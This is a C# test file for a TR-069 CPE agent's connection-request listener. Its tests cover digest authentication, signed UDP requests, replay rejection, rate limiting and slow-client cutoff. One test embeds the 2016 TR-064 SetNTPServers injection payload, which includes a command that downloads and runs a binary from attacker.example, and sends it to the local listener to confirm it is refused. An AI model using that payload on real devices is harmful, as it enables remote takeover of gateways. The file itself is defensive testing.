using System.Net;
using System.Net.Sockets;
using System.Text;
using Microsoft.Extensions.Time.Testing;
using Palisade.Cpe.Agent;
using Palisade.Cpe.ConnectionRequests;
using Palisade.Cwmp.ConnectionRequests;
using Palisade.Cwmp.Events;
using Palisade.Security.Digest;
using Palisade.Testing;
using static Palisade.Cpe.Tests.AgentFixture;

namespace Palisade.Cpe.Tests;

public sealed class ConnectionRequestTests : IAsyncLifetime
{
    // The listener's rate limit and nonces run on this clock, so a test moves time instead of waiting for it.
    private readonly FakeTimeProvider _clock = new(DateTimeOffset.UtcNow);
    private TestServer _server = null!;
    private ConnectionRequestServer _listener = null!;

    public async Task InitializeAsync()
    {
        _server = await TestServer.StartAsync();
        _listener = await ConnectionRequestServer.StartAsync(IPAddress.Loopback, 0, _clock, burst: 6, perSecond: 1);
    }

    public async Task DisposeAsync()
    {
        await _listener.DisposeAsync();
        await _server.DisposeAsync();
    }

    [Fact]
    public async Task An_authenticated_connection_request_opens_a_session_with_event_6()
    {
        await using var agent = await RunningAgentAsync("CR0001");
        var url = agent.Model.Get("Device.ManagementServer.ConnectionRequestURL")!;
        Assert.True(new Uri(url).AbsolutePath.Length >= 17);
        var device = await DeviceAsync(_server, agent);
        Assert.Equal(url, device.ConnectionRequest!.Url);

        using var http = new HttpClient();
        var status = await KnockAsync(http, url, device.ConnectionRequest.Username!, device.ConnectionRequest.Password!);
        Assert.Equal(HttpStatusCode.OK, status);
        await EventuallyAsync(async () => (await DeviceAsync(_server, agent)).LastEvents.Contains(EventCodes.ConnectionRequest, StringComparison.Ordinal), "the connection-request session");
    }

    [Fact]
    public async Task A_signed_udp_connection_request_opens_a_session_and_a_replay_does_not()
    {
        using var udp = new UdpConnectionRequestListener(new IPEndPoint(IPAddress.Loopback, 0));
        await using var agent = NewAgent(_server, "CR0002");
        udp.Register(agent);
        await SessionOkAsync(agent);
        var (user, password) = agent.ConnectionRequestCredentials!.Value;
        Assert.Equal(udp.LocalEndPoint.ToString(), agent.Model.Get("Device.ManagementServer.UDPConnectionRequestAddress"));

        // Timestamps a little in the past (within the five-minute window), so the ACS's own request below is newer.
        var now = DateTimeOffset.UtcNow.ToUnixTimeSeconds() - 10;
        var datagram = UdpConnectionRequest.Build(udp.LocalEndPoint.ToString(), now, "1", user, "cnonce-1", password);
        Assert.True(udp.Handle(datagram));
        Assert.Contains(agent.PendingEvents, e => e.EventCode == EventCodes.ConnectionRequest);
        Assert.False(udp.Handle(datagram));
        Assert.False(udp.Handle(UdpConnectionRequest.Build(udp.LocalEndPoint.ToString(), now + 1, "2", user, "cnonce-2", "wrong-password")));
        Assert.False(udp.Handle(UdpConnectionRequest.Build(udp.LocalEndPoint.ToString(), now - 3600, "3", user, "cnonce-3", password)));
        Assert.False(udp.Handle("GET / HTTP/1.1\r\n\r\n"u8));

        // Over a real socket too.
        await SessionOkAsync(agent);
        using var sender = new UdpClient();
        var fresh = UdpConnectionRequest.Build(udp.LocalEndPoint.ToString(), now + 2, "4", user, "cnonce-4", password);
        await sender.SendAsync(fresh, udp.LocalEndPoint);
        await EventuallyAsync(() => Task.FromResult(udp.Accepted == 2), "the datagram");

        // End to end: the Inform told the ACS where the listener is, and the ACS's own requester reaches it there.
        var device = await DeviceAsync(_server, agent);
        Assert.Equal(udp.LocalEndPoint.ToString(), device.ConnectionRequest!.UdpAddress);
        var outcome = await _server.Host.ConnectionRequester.RequestAsync(device, CancellationToken.None);
        Assert.Equal(Palisade.Acs.ConnectionRequests.ConnectionRequestReason.UdpSent, outcome.Reason);
        Assert.Equal(Palisade.Acs.ConnectionRequests.ConnectionRequestResult.SentUdp, outcome.Result);
        await EventuallyAsync(() => Task.FromResult(udp.Accepted == 3), "the ACS's signed datagram");
    }

    [Fact]
    public async Task The_2016_attack_and_other_probes_get_404_401_405_or_503_and_change_nothing()
    {
        await using var agent = await RunningAgentAsync("CR0003", periodicSeconds: 1);
        var url = new Uri(agent.Model.Get("Device.ManagementServer.ConnectionRequestURL")!);
        var before = agent.Model.State.Values.Count;
        using var http = new HttpClient();

        // The TR-064 SetNTPServers command injection that took 900,000 gateways offline in 2016.
        using var attack = new StringContent("""
            <?xml version="1.0"?><SOAP-ENV:Envelope xmlns:SOAP-ENV="http://schemas.xmlsoap.org/soap/envelope/"><SOAP-ENV:Body>
            <u:SetNTPServers xmlns:u="urn:dslforum-org:service:Time:1"><NewNTPServer1>`cd /tmp;wget http://attacker.example/1;chmod 777 1;./1`</NewNTPServer1>
            </u:SetNTPServers></SOAP-ENV:Body></SOAP-ENV:Envelope>
            """, Encoding.UTF8, "text/xml");
        attack.Headers.Add("SOAPAction", "urn:dslforum-org:service:Time:1#SetNTPServers");
        Assert.Equal(HttpStatusCode.NotFound, (await http.PostAsync(new Uri(url, "/UD/act?1"), attack)).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(new Uri(url, "/"))).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await http.GetAsync(new Uri(url, url.AbsolutePath + "x"))).StatusCode);
        Assert.Equal(HttpStatusCode.MethodNotAllowed, (await http.PostAsync(url, new StringContent("x"))).StatusCode);

        var device = await DeviceAsync(_server, agent);
        var unauthenticated = await http.GetAsync(url);
        Assert.Equal(HttpStatusCode.Unauthorized, unauthenticated.StatusCode);
        Assert.Equal(HttpStatusCode.Unauthorized, await KnockAsync(http, url.ToString(), device.ConnectionRequest!.Username!, "guess"));

        // A captured valid request, replayed. Time moves on between the knocks, so the rate limit has refilled and only the
        // replay guard can refuse the replay.
        _clock.Advance(TimeSpan.FromSeconds(1.5));
        var challenge = DigestClient.PickChallenge((await http.GetAsync(url)).Headers.WwwAuthenticate.Select(h => h.ToString()))!;
        var header = new DigestClient(device.ConnectionRequest.Username!, device.ConnectionRequest.Password!).Authorize(challenge, "GET", url.PathAndQuery);
        Assert.Equal(HttpStatusCode.OK, await SendAsync(http, url, header));
        _clock.Advance(TimeSpan.FromSeconds(1.5));
        Assert.Equal(HttpStatusCode.Unauthorized, await SendAsync(http, url, header));

        // A flood is cut off with 503.
        var flood = await Task.WhenAll(Enumerable.Range(0, 30).Select(_ => http.GetAsync(url)));
        Assert.Contains(flood, r => r.StatusCode == HttpStatusCode.ServiceUnavailable);

        Assert.Equal(1, _listener.Accepted);
        Assert.Equal(before, agent.Model.State.Values.Count);
        Assert.Equal("1", agent.Model.Get("Device.ManagementServer.PeriodicInformInterval"));

        // Periodic informs (one a second) kept coming through all that: the agent informs again after the last attack.
        var attacked = DateTimeOffset.UtcNow;
        await EventuallyAsync(async () => (await DeviceAsync(_server, agent)).LastInformAt > attacked, "a periodic inform after the attacks", seconds: 60);
    }

    [Fact]
    public async Task A_slow_client_on_the_connection_request_port_is_cut_off()
    {
        var started = DateTime.UtcNow;
        using var tcp = new TcpClient();
        await tcp.ConnectAsync(_listener.BaseUrl.Host, _listener.BaseUrl.Port);
        var stream = tcp.GetStream();
        await stream.WriteAsync(Encoding.ASCII.GetBytes("GET /x HTTP/1.1\r\nHost: x\r\n"));
        var closed = false;
        try
        {
            for (var i = 0; i < 30 && !closed; i++)
            {
                await stream.WriteAsync("X"u8.ToArray());
                // A real wait: Kestrel's header timeout on a real socket runs on the real clock.
                await Task.Delay(1000);
                closed = tcp.Client.Poll(0, SelectMode.SelectRead) && tcp.Client.Available == 0;
            }
        }
        catch (IOException)
        {
            closed = true;
        }

        // The listener's header timeout is 5 s; Kestrel's own default is 30 s. A listener that lost its setting keeps the
        // client 30 s at least and fails this bound, which leaves a loaded machine 20 s to cut off a client due at 5 s.
        Assert.True(closed, "the listener kept a client that never finished its headers");
        Assert.True(DateTime.UtcNow - started < TimeSpan.FromSeconds(25), $"cut off after {DateTime.UtcNow - started}");
        Assert.Equal(0, _listener.Accepted);
    }

    private async Task<CpeAgent> RunningAgentAsync(string serial, int periodicSeconds = 3600)
    {
        var agent = NewAgent(_server, serial, o => o.PeriodicInterval = TimeSpan.FromSeconds(periodicSeconds));
        _listener.Register(agent);
        _ = agent.RunAsync(CancellationToken.None);
        await EventuallyAsync(async () => await _server.Host.Store.GetDeviceAsync(Id(agent), CancellationToken.None) is { ConnectionRequest.Password: not null }, "enrollment");
        return agent;
    }

    private static async Task<HttpStatusCode> KnockAsync(HttpClient http, string url, string user, string password)
    {
        using var first = await http.GetAsync(url);
        if (first.StatusCode != HttpStatusCode.Unauthorized)
        {
            return first.StatusCode;
        }

        var challenge = DigestClient.PickChallenge(first.Headers.WwwAuthenticate.Select(h => h.ToString()))!;
        return await SendAsync(http, new Uri(url), new DigestClient(user, password).Authorize(challenge, "GET", new Uri(url).PathAndQuery));
    }

    private static async Task<HttpStatusCode> SendAsync(HttpClient http, Uri url, string authorization)
    {
        using var request = new HttpRequestMessage(HttpMethod.Get, url);
        request.Headers.TryAddWithoutValidation("Authorization", authorization);
        using var response = await http.SendAsync(request);
        return response.StatusCode;
    }
}
